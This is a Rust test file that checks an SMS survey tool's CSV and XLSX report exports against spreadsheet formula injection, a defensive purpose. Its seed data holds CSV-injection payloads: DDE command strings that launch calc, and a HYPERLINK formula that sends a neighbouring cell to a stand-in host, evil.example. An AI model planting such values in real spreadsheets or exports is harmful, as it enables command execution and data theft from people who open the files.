//! What a subscriber or an operator typed, in the files a manager opens in Excel: `smsflow
//! report … -f csv|xlsx` as a process over a store holding formulas as text (issue 27 item 5).
//! No CSV cell starts as a formula; XLSX cells are strings, never formulas. Every test name
//! contains `reports`, so `cargo test reports` selects them.

use std::io::Read;
use std::path::Path;

use serde_json::json;
use smsflow::store::{
    Commit, Conversation, ConversationStatus, Direction, Incident, Rating, Store, TimelineEntry,
};
use tokio::process::Command;

use crate::util::TempDir;

/// 2026-11-21 12:00 in Tashkent (07:00 UTC).
const DAY: i64 = 1_795_244_400_000;

/// What Excel would run: a DDE command, a link that sends a neighbour cell away, and the
/// other starts OWASP lists.
const COMMENT: &str = "=cmd|' /C calc'!A0";
const OPERATOR: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"op\")";
const HOSTILE: [&str; 6] = [
    COMMENT,
    OPERATOR,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
];

fn seed(store: &Store) {
    for (i, text) in HOSTILE.iter().enumerate() {
        let id = 100 + i as u64;
        // Fives the day before, ones on the day: a fall in the average to report.
        let (day_before, score) = if i % 2 == 0 { (1, 5) } else { (0, 1) };
        let at = DAY - day_before * 86_400_000 + i as i64 * 60_000;
        let msisdn = format!("99890123456{i}");
        let operator = if i == 1 { OPERATOR } else { "op-17" };
        store
            .commit(Commit {
                conversation: Some(Conversation {
                    id,
                    flow: "survey".into(),
                    flow_version: "v1".into(),
                    state: json!({"msisdn": msisdn, "operator": operator, "channel": text}),
                    parties: vec![],
                    status: ConversationStatus::Finished {
                        outcome: "rated".into(),
                    },
                    created_at: at,
                    updated_at: at,
                    ..Default::default()
                }),
                timeline: vec![(
                    id,
                    TimelineEntry {
                        at,
                        direction: Direction::Out,
                        party: msisdn.clone(),
                        text: "Оцените...".into(),
                        status: "delivered".into(),
                        message_id: Some(id),
                    },
                )],
                ratings: vec![Rating {
                    conversation: id,
                    flow: "survey".into(),
                    at: at + 30_000,
                    msisdn,
                    score,
                    operator: operator.into(),
                    channel: (*text).into(),
                    comment: format!("{text} долго ждать"),
                }],
                ..Commit::default()
            })
            .unwrap();
    }
    // Staff calls whose button and location came from a concentrator's event.
    for (i, text) in HOSTILE.iter().enumerate() {
        store
            .commit(Commit {
                incidents: vec![Incident {
                    conversation: 200 + i as u64,
                    at: DAY + i as i64 * 1000,
                    updated_at: DAY + i as i64 * 1000,
                    fields: json!({"acknowledged": false, "level": null, "escalated": true,
                                   "ack_seconds": null, "id": text, "button": text,
                                   "location": text, "staff": text}),
                }],
                ..Commit::default()
            })
            .unwrap();
    }
    store.flush_sync().unwrap();
}

/// A store with the hostile texts and a config reading it.
fn setup(dir: &Path) -> String {
    let data = dir.join("data");
    seed(&Store::open(&data).unwrap());
    let config = dir.join("smsflow.toml");
    std::fs::write(
        &config,
        format!(
            "[service]\ndata_dir = {:?}\ntimezone = \"Asia/Tashkent\"\n",
            data.display().to_string()
        ),
    )
    .unwrap();
    config.to_str().unwrap().to_owned()
}

async fn smsflow(args: &[&str]) -> Vec<u8> {
    let out = Command::new(env!("CARGO_BIN_EXE_smsflow"))
        .args(args)
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// The cells of an RFC 4180 file, row by row (as Excel splits it on commas).
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut chars = csv
        .strip_prefix('\u{feff}')
        .unwrap_or(csv)
        .chars()
        .peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        let cell = rows.last_mut().unwrap().last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' if quoted || cell.is_empty() => quoted = !quoted,
            ',' if !quoted => rows.last_mut().unwrap().push(String::new()),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                rows.push(vec![String::new()]);
            }
            _ => cell.push(c),
        }
    }
    // The CRLF ending the last record starts no record.
    rows.retain(|r| r != &[String::new()]);
    rows
}

/// Every cell that Excel would take for a formula (OWASP's starts), bar plain numbers.
fn formulas(csv: &str) -> Vec<String> {
    let number = |c: &str| {
        let digits = c.strip_prefix('-').unwrap_or(c);
        !digits.is_empty() && digits.chars().all(|d| d.is_ascii_digit() || d == '.')
    };
    (cells(csv).into_iter().flatten())
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number(c))
        .collect()
}

#[tokio::test]
async fn reports_csv_cells_never_start_as_a_formula() {
    let dir = TempDir::new("report-formulas");
    let config = setup(dir.path());
    let range = ["--from", "2026-11-01", "--to", "2026-11-22"];
    let feed = smsflow(&["report", "responses", "-c", &config, "-f", "csv"]).await;
    let feed = String::from_utf8(feed).unwrap();
    assert_eq!(formulas(&feed), Vec::<String>::new(), "{feed}");
    // The text is all there, behind the quote that makes it text.
    let rows = cells(&feed);
    let comments: Vec<&str> = rows.iter().skip(1).map(|r| r[7].as_str()).collect();
    assert!(
        comments.contains(&format!("'{COMMENT} долго ждать").as_str()),
        "{comments:?}"
    );
    assert!(
        rows.iter().any(|r| r[4] == format!("'{OPERATOR}")),
        "{feed}"
    );

    for args in [
        &["report", "csi", "--by", "operator"][..],
        &["report", "csi", "--by", "channel"],
        &["report", "incidents", "--by", "location"],
        &["report", "incidents", "--by", "button"],
    ] {
        let args = [args, &["-c", &config, "-f", "csv"], &range].concat();
        let csv = String::from_utf8(smsflow(&args).await).unwrap();
        assert_eq!(formulas(&csv), Vec::<String>::new(), "{args:?}: {csv}");
        assert!(csv.contains("'=") || csv.contains("'@"), "{args:?}: {csv}");
    }
}

/// Numbers we write stay numbers: the fall in the average is `-4`, not `'-4`.
#[tokio::test]
async fn reports_csv_negative_numbers_stay_numbers() {
    let dir = TempDir::new("report-negative");
    let config = setup(dir.path());
    let args = [
        "report",
        "csi",
        "-c",
        &config,
        "-f",
        "csv",
        "--from",
        "2026-11-21",
        "--to",
        "2026-11-21",
    ];
    let csv = String::from_utf8(smsflow(&args).await).unwrap();
    let rows = cells(&csv);
    let column = rows[0].iter().position(|h| h == "change_average").unwrap();
    assert_eq!(rows[1][2], "total", "{csv}");
    assert_eq!(rows[1][column], "-4", "{csv}");
}

#[tokio::test]
async fn reports_xlsx_writes_what_people_typed_as_text_never_as_a_formula() {
    let dir = TempDir::new("report-xlsx-formulas");
    let config = setup(dir.path());
    let range = ["--from", "2026-11-01", "--to", "2026-11-22"];
    for (kind, by) in [("csi", "operator"), ("incidents", "location")] {
        let out = dir.path().join(format!("{kind}.xlsx"));
        let args = [
            &["report", kind, "--by", by, "-c", &config, "-f", "xlsx"][..],
            &["-o", out.to_str().unwrap()],
            &range,
        ]
        .concat();
        smsflow(&args).await;
        let mut zip = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
        let mut strings = String::new();
        zip.by_name("xl/sharedStrings.xml")
            .unwrap()
            .read_to_string(&mut strings)
            .unwrap();
        let wanted = if kind == "csi" {
            "=HYPERLINK("
        } else {
            "@SUM("
        };
        assert!(strings.contains(wanted), "{kind}: {strings}");
        for i in 0..zip.len() {
            let mut part = zip.by_index(i).unwrap();
            let name = part.name().unwrap().into_owned();
            if !name.starts_with("xl/worksheets/") {
                continue;
            }
            let mut xml = String::new();
            part.read_to_string(&mut xml).unwrap();
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{kind} {name}"
            );
        }
    }
}
